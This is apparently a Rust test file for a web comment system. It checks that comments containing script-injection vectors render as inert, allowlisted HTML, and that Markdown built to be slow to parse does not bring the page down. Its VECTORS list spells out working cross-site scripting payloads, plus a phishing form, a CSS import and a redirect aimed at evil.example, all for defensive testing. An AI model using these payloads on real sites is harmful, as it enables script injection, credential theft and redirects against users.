//! Comments that were written to run in somebody else's browser.

use super::{Table, comments};
use serde_json::json;

/// Known vectors, in HTML and in Markdown.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt:alert(1))",
    "[here](java\tscript:alert(1))",
    "[here](<javascript:alert(1)>)",
    "[here](&#106;avascript&colon;alert(1))",
    "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[here](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    "![x\"onerror=\"alert(1)](x)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"position:fixed;inset:0\">over all</p>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "`</code><script>alert(1)</script>`",
    "# <a id=\"csrf\" name=\"csrf\">x</a>",
];

/// Tags of the HTML: each its name, and its attributes with their values.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, tag)) = rest.split_once('<') {
        let (name, mut within) = tag.split_at(tag.find([' ', '>']).expect("the tag ends"));
        let mut attributes = Vec::new();
        while let Some(attribute) = within.strip_prefix(' ') {
            let (name, value) = attribute.split_once("=\"").expect("a value in quotes");
            let (value, behind) = value.split_once('"').expect("the value ends");
            attributes.push((name.to_owned(), value.to_owned()));
            within = behind;
        }
        rest = within.strip_prefix('>').unwrap_or_else(|| panic!("the tag ends: {within}"));
        tags.push((name.trim_start_matches('/').to_owned(), attributes));
    }
    tags
}

#[test]
fn hostile_comments_are_inert_in_the_html_and_whole_in_the_text() {
    let table = Table::new();
    let mut ada = table.member("Ada", "commenter");
    for vector in VECTORS {
        ada.says(table.page, &json!({ "body": format!("Look: {vector}\n\n{vector}") }));
    }
    let listed = ada.read(&comments(table.page));
    let listed = listed["comments"].as_array().expect("comments");
    assert_eq!(listed.len(), VECTORS.len());
    let known = [
        "p",
        "a",
        "em",
        "strong",
        "code",
        "pre",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "h1",
        "br",
        "ul",
        "li",
        "ol",
        "hr",
        "blockquote",
        "del",
    ];
    for (comment, vector) in listed.iter().zip(VECTORS) {
        let html = comment["html"].as_str().expect("HTML");
        for (tag, attributes) in tags(html) {
            assert!(known.contains(&tag.as_str()), "{vector}: <{tag}> in {html}");
            for (attribute, value) in attributes {
                match attribute.as_str() {
                    "href" => {
                        let may = ["https://", "http://", "mailto:", "#section-"];
                        assert!(may.iter().any(|begin| value.starts_with(begin)), "{vector}: {html}");
                    }
                    "id" => assert!(value.starts_with("section-"), "{vector} could pass for another element: {html}"),
                    "rel" | "title" | "align" | "class" | "aria-label" => {}
                    _ => panic!("{vector}: {attribute} in {html}"),
                }
            }
        }
    }
    let text = listed[1]["body"].as_str().expect("a body");
    assert!(text.contains("<img src=x onerror=alert(1)>"), "the text is what was written: {text}");
    // What the maker's inbox shows is plain text, which pages escape.
    assert_eq!(table.maker.inbox().len(), VECTORS.len());
}

#[test]
fn markdown_that_is_costly_to_read_does_not_take_the_page_down() {
    let table = Table::new();
    let mut ada = table.member("Ada", "commenter");
    for hostile in [
        "[".repeat(2_000),
        "*a_".repeat(3_333),
        "> ".repeat(5_000),
        "<a ".repeat(3_333),
        "`".repeat(9_999),
        "![[](".repeat(1_000),
    ] {
        ada.says(table.page, &json!({ "body": hostile }));
    }
    assert_eq!(ada.read(&comments(table.page))["count"], 6);
}
